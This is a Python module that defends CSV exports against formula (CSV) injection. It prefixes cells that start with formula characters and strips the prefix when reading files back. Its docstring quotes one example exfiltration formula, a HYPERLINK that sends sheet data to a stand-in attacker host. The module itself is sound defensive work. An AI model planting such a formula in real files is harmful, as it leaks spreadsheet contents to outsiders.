"""CSV files that are safe to open in a spreadsheet, and read back to the same values.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or line break) as a formula: a member named
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` would leak the sheet to whoever opens it.
OWASP's CSV-injection guidance: prefix such a cell with ``'``, which the spreadsheet shows as
text. Values the product formats itself and knows to be safe are left as they are: numbers
(``-1``, ``323.21``) and E.164 phone numbers (``+447700900001``), so files stay readable by
other programs. Reading a file strips the prefix again, so an export imports unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
PREFIX = "'"
_SAFE = re.compile(r"-?\d+(\.\d+)?|\+[1-9]\d{6,14}", re.ASCII)


def _needs_prefix(value: str) -> bool:
    # A value already starting with the prefix before a trigger gets one more, so that
    # reading strips exactly the one this module added.
    return value.lstrip(PREFIX).startswith(TRIGGERS) and _SAFE.fullmatch(value) is None


def safe_cell(value: str) -> str:
    """The value as a spreadsheet will show it rather than run it."""
    return PREFIX + value if _needs_prefix(value) else value


def plain_cell(value: str) -> str:
    """The value ``safe_cell`` was given: the inverse, for reading files back."""
    if value.startswith(PREFIX) and _needs_prefix(value[1:]):
        return value[1:]
    return value


def write(handle: TextIO, rows: Iterable[Sequence[object]]) -> None:
    """Every row, every cell made safe. Every CSV the product writes goes through here."""
    writer = csv.writer(handle)
    for row in rows:
        writer.writerow([safe_cell(str(cell)) for cell in row])


def text(rows: Iterable[Sequence[object]]) -> str:
    buffer = io.StringIO()
    write(buffer, rows)
    return buffer.getvalue()
